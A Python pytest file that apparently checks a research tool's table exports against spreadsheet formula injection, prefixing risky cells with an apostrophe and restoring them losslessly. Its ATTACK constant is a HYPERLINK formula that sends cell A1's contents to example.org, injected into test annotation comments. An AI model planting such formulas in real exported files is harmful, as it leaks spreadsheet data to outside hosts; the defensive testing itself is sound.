"""No cell of a table that leaves as text is run by the spreadsheet that opens it, and none is lost."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nao_sessions.analysis.corpus.bids import bids_of
from nao_sessions.analysis.tables.cells import restored, safe, safe_row, safe_table
from nao_sessions.analysis.tables.flat import write_tables
from nao_sessions.analysis.tables.source import read_source
from nao_sessions.analysis.tables.tables import SessionTables

GOLDEN = Path(__file__).parents[2] / "sessions"
ATTACK = '=HYPERLINK("http://example.org/?"&A1,"x")'

CELLS = {
    ATTACK: f"'{ATTACK}",
    "+33 6 12": "'+33 6 12",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\tx": "'\tx",
    "\rx": "'\rx",
    "  =1": "  '=1",
    "＝1": "'＝1",
    "'=1": "''=1",
    "bien; =1": "bien; '=1",
    'bien;"=1': "bien;\"'=1",
    "bien\n=1": "bien\n'=1",
    "-5": "-5",
    "+2,5": "+2,5",
    "-1.5e-3": "-1.5e-3",
    "a = b": "a = b",
    "l'école": "l'école",
    "'x'": "'x'",
    "—": "—",
    "": "",
    '{"a":-5,"b":[1,-2]}': '{"a":-5,"b":[1,-2]}',
}


@pytest.mark.parametrize("text", CELLS)
def test_a_text_that_would_be_run_gets_an_apostrophe_and_no_other_is_touched(text: str) -> None:
    assert safe(text) == CELLS[text]
    assert restored(CELLS[text]) == text


@given(st.text(alphabet="=+-@'\";\t\r\n 15.,eax\u3000＝"))
def test_no_sign_begins_a_cell_and_each_text_comes_back(text: str) -> None:
    cell = safe(text)
    assert restored(cell) == text
    for part in re.split(r"[;\t\r\n]", cell):
        begun = part.lstrip(' "\u3000')
        assert not begun or begun[0] not in "=@＝"
    table = safe_table(pa.table({"text": pa.array([text, None]), "n": pa.array([1, 2])}))
    assert table["text"].to_pylist() == [cell, None]


def test_numbers_of_a_row_stay_numbers() -> None:
    assert safe_row([1, -2.5, None, "-2.5", "=1"]) == [1, -2.5, None, "-2.5", "'=1"]


@pytest.fixture
def attacked(tmp_path: Path) -> Path:
    """Give a session in which a coder's remark is a formula."""
    folder = tmp_path / "received"
    shutil.copytree(GOLDEN / "coded", folder)
    path = folder / "annotations" / "C01.jsonl"
    lines = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    for line in lines:
        if line["op"] == "add":
            line["comment"] = ATTACK
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")
    return folder


def test_a_remark_that_is_a_formula_leaves_as_a_text_and_comes_back_as_it_was(
    attacked: Path, tmp_path: Path
) -> None:
    write_tables(SessionTables(read_source(attacked)), tmp_path / "out", "csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "annotations.csv").read_text("utf-8"))))
    comments = {row["comment"] for row in rows}
    assert f"'{ATTACK}" in comments
    assert ATTACK not in comments
    assert {ATTACK, "tend la main", ""} <= {restored(one) for one in comments}


def test_the_tables_of_bids_hold_none_either(attacked: Path) -> None:
    files = bids_of([read_source(attacked)], "en")
    tables = [content for name, content in files if name.endswith(".tsv")]
    cells = [cell for table in tables for row in table.splitlines() for cell in row.split("\t")]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_parquet_holds_the_texts_as_they_are(attacked: Path, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    write_tables(SessionTables(read_source(attacked)), tmp_path / "out", "parquet")
    comments = pq.read_table(tmp_path / "out" / "annotations.parquet")["comment"].to_pylist()
    assert ATTACK in comments
